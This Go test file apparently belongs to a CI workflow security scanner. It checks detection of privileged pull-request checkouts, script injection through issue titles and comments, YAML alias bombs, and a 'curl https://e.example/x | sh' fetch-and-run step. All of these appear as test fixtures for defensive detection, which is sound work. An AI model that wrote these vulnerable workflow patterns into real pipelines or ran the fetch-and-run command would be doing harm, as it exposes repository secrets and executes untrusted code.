package static

import (
	"slices"
	"strings"
	"testing"

	"github.com/umpire-dev/umpire/internal/review/finding"
)

// grave reports whether a workflow has a rule at High or above.
func grave(t *testing.T, name, text, rule string) bool {
	t.Helper()
	return slices.ContainsFunc(check(t, map[string]string{name: text}), func(r finding.Reported) bool {
		return r.Rule == rule && r.Severity.Reaches(finding.High)
	})
}

// However a workflow is written, taking a stranger's code with rights is found.
func TestPrivilegedCheckout(t *testing.T) {
	const target = "on: pull_request_target\n"
	steps := func(s string) string {
		return target + "jobs:\n  a:\n    runs-on: x\n    steps:\n" + s
	}
	for name, text := range map[string]string{
		"two lines":       steps("    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.pull_request.head.sha }}\n"),
		"one line":        steps("    - uses: actions/checkout@v4\n      with: {ref: \"${{ github.event.pull_request.head.sha }}\"}\n"),
		"flow":            "{on: [pull_request_target], jobs: {a: {steps: [{uses: actions/checkout@v4, with: {ref: '${{ github.event.pull_request.head.sha }}'}}]}}}\n",
		"JSON":            `{"on": {"pull_request_target": {"types": ["opened"]}}, "jobs": {"a": {"steps": [{"uses": "actions/checkout@v4", "with": {"ref": "${{github.head_ref}}"}}]}}}`,
		"anchor":          "x: &w\n  ref: ${{ github.event.pull_request.head.ref }}\n" + steps("    - uses: actions/checkout@v4\n      with: *w\n"),
		"merged":          "x: &w\n  ref: ${{ github.event.pull_request.head.ref }}\n" + steps("    - uses: actions/checkout@v4\n      with:\n        <<: *w\n"),
		"alias of on":     "x: &t [pull_request_target]\non: *t\njobs: {a: {steps: [{uses: actions/checkout@v4, with: {ref: refs/pull/1/merge}}]}}\n",
		"merge ref":       steps("    - uses: actions/checkout@v4\n      with:\n        ref: refs/pull/${{ github.event.number }}/merge\n"),
		"merge commit":    steps("    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github.event.pull_request.merge_commit_sha }}\n"),
		"by index":        steps("    - uses: actions/checkout@v4\n      with:\n        ref: ${{ github['event']['pull_request'] . head.sha }}\n"),
		"upper case":      steps("    - uses: actions/checkout@v4\n      with:\n        ref: ${{ GitHub.Event.Pull_Request.Head.SHA }}\n"),
		"in env":          "env:\n  SHA: ${{ github.event.pull_request.head.sha }}\n" + steps("    - uses: actions/checkout@v4\n      with:\n        ref: ${{ env.SHA }}\n"),
		"folded":          steps("    - uses: actions/checkout@v4\n      with:\n        ref: >-\n          ${{ github.event.pull_request.head.sha }}\n"),
		"fork's repo":     steps("    - uses: actions/checkout@v4\n      with:\n        repository: ${{ github.event.pull_request.head.repo.full_name }}\n"),
		"workflow run":    "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n      with: {ref: \"${{ github.event.workflow_run.head_sha }}\"}\n",
		"comment":         "on: issue_comment\njobs:\n  a:\n    steps:\n    - run: gh pr checkout ${{ github.event.issue.number }}\n",
		"gh":              steps("    - run: |\n        set -e\n        gh pr checkout \"$N\" && make\n"),
		"git fetch":       steps("    - run: git fetch origin pull/$N/head && git checkout FETCH_HEAD\n"),
		"git variable":    steps("    - env:\n        SHA: ${{ github.event.pull_request.head.sha }}\n      run: git checkout \"$SHA\"\n"),
		"head variable":   steps("    - run: git switch \"$GITHUB_HEAD_REF\"\n"),
		"diff":            steps("    - run: gh pr diff 1 | git apply\n"),
		"other action":    steps("    - uses: evil/git-checkout@v1\n      with:\n        anything: ${{ github.head_ref }}\n"),
		"reused workflow": target + "jobs:\n  a:\n    uses: ./.github/workflows/build.yml\n    with: {sha: \"${{ github.event.pull_request.head.sha }}\"}\n    secrets: inherit\n",
		"quoted key":      "\"on\":\n  'pull_request_target':\njobs:\n  a:\n    steps:\n    - {\"uses\": actions/checkout@v4, \"with\": {\"ref\": \"${{ github.head_ref }}\"}}\n",
	} {
		t.Run(name, func(t *testing.T) {
			for _, path := range []string{".github/workflows/x.yml", ".forgejo/workflows/x.yaml"} {
				if !grave(t, path, text, privilegedCheckout.ID) {
					t.Errorf("%s: not found", path)
				}
			}
			if grave(t, ".github/workflows/x.yml", strings.NewReplacer("pull_request_target", "pull_request", "workflow_run:", "push:", "issue_comment", "push").Replace(text), privilegedCheckout.ID) {
				t.Error("found without rights")
			}
		})
	}
}

func TestScriptInjection(t *testing.T) {
	step := func(s string) string { return "on: issues\njobs:\n  a:\n    steps:\n" + s }
	for name, c := range map[string]struct {
		path, text string
		want       bool
	}{
		"title":         {"", step("    - run: echo '${{ github.event.issue.title }}'\n"), true},
		"flow":          {"", "{on: issues, jobs: {a: {steps: [{run: 'echo ${{ github.event.comment.body }}'}]}}}\n", true},
		"in env":        {"", step("    - env:\n        T: ${{ github.event.issue.title }}\n      run: echo ${{ env.T }}\n"), true},
		"env of env":    {"", "env:\n  A: ${{ github.event.issue.body }}\n" + step("    - env:\n        B: ${{ env.A }}\n      run: |\n        true\n        echo ${{ env['B'] }}\n"), true},
		"whole event":   {"", step("    - run: echo '${{ toJSON(github.event) }}'\n"), true},
		"github-script": {"", step("    - uses: actions/github-script@v7\n      with:\n        script: console.log(`${{ github.event.issue.title }}`)\n"), true},
		"over lines":    {"", step("    - run: |\n        echo ${{\n          github.event.issue.title\n        }}\n"), true},
		"composite":     {"action.yml", "runs:\n  using: composite\n  steps:\n  - shell: bash\n    run: echo ${{ github.head_ref }}\n", true},
		"commits":       {"", step("    - run: echo ${{ github.event.commits[0].message }}\n"), true},
		"quoted env":    {"", step("    - env:\n        T: ${{ github.event.issue.title }}\n      run: echo \"$T\"\n"), false},
		"number":        {"", step("    - run: echo ${{ github.event.issue.number }}\n"), false},
		"comment":       {"", step("    # run: echo ${{ github.event.issue.title }}\n    - run: make\n"), false},
		"name":          {"", step("    - name: ${{ github.event.issue.title }}\n      run: make\n"), false},
	} {
		t.Run(name, func(t *testing.T) {
			path := c.path
			if path == "" {
				path = ".github/workflows/x.yml"
			}
			if got := grave(t, path, c.text, scriptInjection.ID); got != c.want {
				t.Errorf("found: %v", got)
			}
		})
	}
}

// Files that are made to stop the reader are findings, and stop nothing.
func TestHostileYAML(t *testing.T) {
	bomb := "a: &a [x, x, x, x, x, x, x, x, x]\n"
	for c := 'b'; c < 'k'; c++ {
		bomb += string(c) + ": &" + string(c) + " [" + strings.TrimSuffix(strings.Repeat("*"+string(c-1)+", ", 9), ", ") + "]\n"
	}
	for name, text := range map[string]string{
		"aliases":  bomb,
		"brackets": "on: " + strings.Repeat("[", 100_000),
		"lines":    strings.Repeat("[\n", 100_000),
		"dashes":   strings.Repeat("- ", 100_000) + "x\n",
		"circle":   "a: &a\n  b: *a\non: push\n",
		"no YAML":  "on: [push\n\tjobs: :\n",
		"large":    "on: push\nx: \"" + strings.Repeat("y", maxYAML) + "\"\n",
	} {
		t.Run(name, func(t *testing.T) {
			list := check(t, map[string]string{".github/workflows/x.yml": text})
			if !has(list, workflowUnread.ID) || has(list, unchecked.ID) {
				t.Errorf("%v", list)
			}
		})
	}
}

func TestLinesOfWorkflow(t *testing.T) {
	text := "on: issues\njobs:\n  a:\n    steps:\n    - run: |\n        true\n        echo ${{ github.event.issue.title }}\n    - run: curl https://e.example/x | sh\n"
	want := map[string]int{scriptInjection.ID: 7, fetchAndRun.ID: 8}
	for _, r := range check(t, map[string]string{".github/workflows/x.yml": text}) {
		if r.Location.Line != want[r.Rule] {
			t.Errorf("%s on line %d", r.Rule, r.Location.Line)
		}
	}
}
